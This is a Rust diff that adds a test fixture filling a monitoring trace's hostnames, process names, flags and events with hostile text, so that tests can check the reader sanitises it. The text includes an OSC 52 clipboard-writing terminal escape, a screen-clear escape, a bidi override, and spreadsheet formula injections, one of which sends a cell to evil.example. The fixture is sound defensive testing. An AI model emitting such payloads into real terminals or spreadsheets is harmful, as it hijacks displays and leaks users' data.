@@ -5,7 +5,7 @@
 use crate::detect::DetectorConfig;
 use crate::monitor::Monitor;
 use crate::probe::{HostInfo, ProcessSample, Sample, SystemSample};
-use crate::trace::{Header, Record, Trace, TraceSample};
+use crate::trace::{Event, Header, Mark, Record, Trace, TraceSample};
 
 const GB: f64 = (1u64 << 30) as f64;
 const PHYS_48: u64 = 48 << 30;
@@ -289,6 +289,67 @@ pub fn busy_trace(samples: usize, processes: usize) -> Trace {
         |_, sum| sum + 10.0,
         "python long_job.py",
     )
+}
+
+/// An OSC 52 clipboard write: a terminal that obeys it puts "evil" on the clipboard.
+pub const CLIPBOARD: &str = "\u{1b}]52;c;ZXZpbA==\u{7}";
+/// Clears the screen.
+pub const CLEAR: &str = "\u{1b}[2J";
+/// RIGHT-TO-LEFT OVERRIDE: `is_control` does not catch it.
+pub const BIDI: char = '\u{202e}';
+/// A spreadsheet formula that sends a cell to another site when opened.
+pub const FORMULA: &str = "=HYPERLINK(\"http:evil.example?d=\"&A2,\"open\")";
+
+/// The offload run as a crafted trace holds it (issue 20): terminal escapes
+/// ([`CLIPBOARD`], [`CLEAR`]) and a bidi override ([`BIDI`]) in the
+/// hostname, the command, the watched process's name and command line, its
+/// flags and an event; spreadsheet formulas ([`FORMULA`], `-2+3`,
+/// `@SUM(A1)`) as other processes' names and a phase. Written as it is by
+/// [`to_jsonl`]; the reader must clean every string of it.
+pub fn hostile_text() -> Trace {
+    let mut t = seed_offload();
+    let python = format!("{CLIPBOARD}python{BIDI}yp.exe");
+    if let Some(h) = t.header.as_mut() {
+        h.host.hostname = format!("m5{CLEAR}{BIDI}orp");
+        h.command = Some(vec![
+            "python".into(),
+            format!("{CLIPBOARD}generate.py"),
+            format!("--mode{BIDI}"),
+        ]);
+    }
+    for ts in &mut t.samples {
+        for p in &mut ts.sample.processes {
+            match p.pid {
+                4243 => {
+                    p.name.clone_from(&python);
+                    p.cmdline = Some(format!("python {CLEAR}generate.py{BIDI}"));
+                }
+                300 => p.name = FORMULA.into(),
+                120 => p.name = "-2+3".into(),
+                410 => p.name = "@SUM(A1)".into(),
+                _ => {}
+            }
+        }
+    }
+    for f in &mut t.flags {
+        if f.pid == 4243 {
+            f.name.clone_from(&python);
+        }
+        f.message.push_str(CLEAR);
+    }
+    t.events.push(Event {
+        t_ms: 0,
+        kind: format!("command-start{CLEAR}"),
+        message: format!("python {CLIPBOARD}{BIDI}"),
+        pid: Some(4243),
+        code: None,
+    });
+    t.marks.push(Mark {
+        t_ms: 0,
+        name: "=1+1".into(),
+        end: false,
+    });
+    t
 }
 
 /// Serialises a trace as JSON Lines (header first), as the writer would.
